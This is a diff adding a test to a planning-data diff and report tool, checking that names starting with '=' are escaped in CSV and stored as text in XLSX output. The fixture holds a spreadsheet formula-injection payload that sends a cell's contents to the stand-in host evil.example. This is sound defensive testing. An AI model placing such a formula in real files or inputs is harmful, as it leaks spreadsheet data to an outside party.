@@ -122,3 +122,24 @@ def test_report_against_the_awal_with_accepted_exceptions(plans, tmp_path):
     passed = run("report", plans[1], "--baseline", register, "--as-of", "2026-12-02", "--fail-on", "orphans",
                  "-o", tmp_path / "lagi.md")
     assert passed.exit_code == 0
+
+
+def test_a_planners_formula_looking_text_is_written_as_text(tmp_path):
+    """Names from a source reach CSV and XLSX output; one starting with "=" must never run there."""
+    from workbooks import write_csv_dir
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    old = write_csv_dir(tmp_path / "lama", {"strategy.csv": "id,name\nS1,Strategi\n",
+                                             "process.csv": "id,name,parent\nP1,Proses,S1\n"})
+    new = write_csv_dir(tmp_path / "baru", {"strategy.csv": "id,name\nS1,Strategi\n",
+                                             "process.csv": f'id,name,parent\nP1,"{evil.replace(chr(34), chr(34) * 2)}",S1\n'
+                                                            "P2,-,\n"})
+    rows = list(csv.reader(io.StringIO(run("diff", old, new, "-F", "csv").stdout)))
+    names = {r[3]: r[4] for r in rows[1:] if r[0] == "element"}
+    assert names["P1"] == "'" + evil and names["P2"] == "-"
+    out = tmp_path / "laporan.xlsx"
+    assert run("report", new, "--against", old, "-o", out).exit_code == 0
+    import openpyxl
+
+    cells = [c for ws in openpyxl.load_workbook(out) for row in ws.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
